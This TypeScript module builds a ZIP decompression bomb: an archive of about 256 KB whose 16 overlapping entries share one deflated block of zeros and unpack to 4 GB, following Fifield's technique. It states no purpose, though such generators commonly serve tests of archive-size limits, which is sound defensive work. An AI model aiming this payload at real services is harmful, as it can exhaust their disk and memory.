import { gzipSync } from 'node:zlib'

const entryBytes = 256 * 1024 ** 2
const names = Array.from({ length: 16 }, (_, index) => `zeros-${index}.txt`)

type Packed = { data: Uint8Array; checksum: number }

/**
 * Creates a valid archive of about 256 KB that unpacks to 4 GB. Its entries share the data of one
 * (overlapping files, see David Fifield's "A better zip bomb"). Unzippers list every entry with its
 * full size.
 */
export function zipBomb(): { bytes: Uint8Array; unpackedBytes: number } {
  const packed = packedZeros()
  const [first = ''] = names
  const local = joined(headerOf('local', packed, first), packed.data)
  const directory = joined(...names.map((name) => headerOf('central', packed, name)))
  const end = new DataView(new ArrayBuffer(22))
  end.setUint32(0, 0x06054b50, true)
  end.setUint16(8, names.length, true)
  end.setUint16(10, names.length, true)
  end.setUint32(12, directory.length, true)
  end.setUint32(16, local.length, true)
  const bytes = joined(local, directory, new Uint8Array(end.buffer))
  return { bytes, unpackedBytes: entryBytes * names.length }
}

/**
 * A gzip file is deflated data between a header of ten bytes and a checksum and size of four bytes
 * each.
 */
function packedZeros(): Packed {
  const gzip = gzipSync(new Uint8Array(entryBytes), { level: 9 })
  return {
    data: Uint8Array.from(gzip.subarray(10, -8)),
    checksum: gzip.readUInt32LE(gzip.length - 8),
  }
}

/**
 * Returns what precedes the data of an entry, or its record in the central directory, with its
 * name.
 */
function headerOf(kind: 'local' | 'central', { data, checksum }: Packed, name: string): Uint8Array {
  const isCentral = kind === 'central'
  const header = new DataView(new ArrayBuffer(isCentral ? 46 : 30))
  header.setUint32(0, isCentral ? 0x02014b50 : 0x04034b50, true)
  if (isCentral) header.setUint16(4, 20, true)
  const at = isCentral ? 6 : 4
  header.setUint16(at, 20, true)
  // Compression method 8: deflate.
  header.setUint16(at + 4, 8, true)
  header.setUint32(at + 10, checksum, true)
  header.setUint32(at + 14, data.length, true)
  header.setUint32(at + 18, entryBytes, true)
  header.setUint16(at + 22, name.length, true)
  return joined(new Uint8Array(header.buffer), new TextEncoder().encode(name))
}

function joined(...parts: readonly Uint8Array[]): Uint8Array {
  return Uint8Array.from(parts.flatMap((part) => [...part]))
}
